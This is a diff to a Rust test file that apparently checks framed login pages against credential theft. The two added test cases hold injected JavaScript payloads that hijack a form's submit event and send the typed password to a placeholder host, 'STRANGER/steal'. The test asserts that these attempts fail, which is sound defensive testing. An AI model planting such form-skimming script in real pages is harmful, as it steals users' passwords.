@@ -272,7 +272,32 @@ async fn a_password_is_typed_into_no_frame_but_one_of_the_app() {
         assert_eq!(attacker.logins(), 0, "{what}");
         attacker.stop().await;
     }
-    // Of the app itself, it is one like any other; the page around it stays.
+    // Of the app, until it holds the password.
+    let leaves = |script: &'static str| Attack {
+        login: Some("<iframe src=/form></iframe>"),
+        beside: script,
+        ..Attack::default()
+    };
+    let attacks = [
+        (
+            "as an address",
+            leaves(
+                "<script>if (parent !== window) document.forms[0].addEventListener('submit', (e) => { e.preventDefault(); location.href = 'STRANGER/steal?p=' + encodeURIComponent(e.target.p.value) })</script>",
+            ),
+        ),
+        (
+            "as a form",
+            leaves(
+                "<script>if (parent !== window) document.forms[0].addEventListener('submit', (e) => { e.target.action = 'STRANGER/steal' })</script>",
+            ),
+        ),
+    ];
+    for (what, attack) in attacks {
+        let (attacker, _) = blocked(what, attack, &framed).await;
+        assert_eq!(attacker.logins(), 0, "{what}");
+        attacker.stop().await;
+    }
+    // Of the app itself, it is one like any other;
     let attacker = Attacker::start(frame("<iframe src=/form></iframe>")).await;
     let told = play(&attacker, &framed, "users.list").await;
     assert_eq!(attacker.logins(), 1, "{:?}", told.result.error);
